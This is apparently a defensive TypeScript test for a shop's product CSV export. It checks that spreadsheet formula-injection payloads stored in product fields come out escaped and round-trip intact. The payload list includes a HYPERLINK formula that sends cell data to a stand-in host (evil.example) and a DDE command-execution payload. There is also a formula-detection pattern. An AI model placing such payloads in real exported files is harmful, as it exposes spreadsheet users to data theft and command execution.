import { readFile } from 'node:fs/promises'
import path from 'node:path'
import Papa from 'papaparse'
import { ProductInput } from '../../../src/contract/catalog/product-input.ts'
import { createProduct } from '../../../src/server/catalog/products/save-product.ts'
import type { Shop } from '../../../src/server/shop.ts'
import { runCommand } from '../../../test/support/servers/run-command.ts'
import { PRODUCT_TEXTS } from '../../../test/support/sales/goods.ts'
import type { Place } from '../../../test/support/test-environment.ts'
import type { Failures, ProofContext } from '../../support/proof.ts'

const FORMULAS = [
  '=1+1',
  '=HYPERLINK("https://evil.example?x="&A1,"ver")',
  "=cmd|'/C calc'!A0",
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  "'=1+1",
  "''=1+1",
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '=1+1;=2+2',
  '"=1+1"',
  '";=1+1;"',
]
/** The start of a formula in Excel (also full-width), LibreOffice or Sheets. An apostrophe makes it a text. */
const LIVE = /^[\s\0]*[=+\-@＝＋－＠]|^[\t\r\n]/
const TEXT_FIELDS = [...Object.keys(PRODUCT_TEXTS), 'sku', 'description']

/** Cells of a sheet of hostile texts, written by the command, read as spreadsheets do; returns their number. */
export async function sheet(
  context: ProofContext,
  place: Place,
  shop: Shop,
  failures: Failures,
): Promise<number> {
  for (const [n, formula] of FORMULAS.entries()) {
    const short = formula.slice(0, 40)
    const texts = Object.fromEntries(TEXT_FIELDS.map((field) => [field, short]))
    const blisters = [{ seed_count: 3, price: 100, stock: 1 }]
    const lines = `${short}\n${formula}\n\t${formula}`
    await createProduct({
      shop,
      body: ProductInput.parse({
        ...texts,
        sku: `${short.slice(0, 30)}${n}`,
        description: lines,
        name: `${short} ${n}`,
        type: 'fem',
        blisters,
      }),
    })
  }
  const file = path.join(context.folder, 'sheet.csv')
  const exported = await runCommand(place, ['products', 'export', file])
  if (exported.code !== 0) throw new Error(exported.text)
  const text = (await readFile(file, 'utf8')).replace(/^\uFEFF/, '')
  const { data, errors } = Papa.parse<string[]>(text, { delimiter: ';' })
  if (errors.length > 0) failures.add('a sheet that cannot be read', errors[0]?.message)
  const rows = data.slice(1).filter((row) => row.length > 1)
  failures.expect('rows of the sheet', rows.length, FORMULAS.length)
  const width = data[0]?.length
  for (const row of rows) {
    if (row.length !== width) failures.add('a cell became two', row.join(' | '))
    for (const cell of row) if (LIVE.test(cell)) failures.add('a live formula', JSON.stringify(cell))
  }
  const again = await runCommand(place, ['products', 'import', '--dry-run', file])
  if (again.code !== 0 || /→/.test(again.text))
    failures.add('the sheet does not come back as it was', again.text.slice(0, 300))
  return rows.length * (width ?? 0)
}
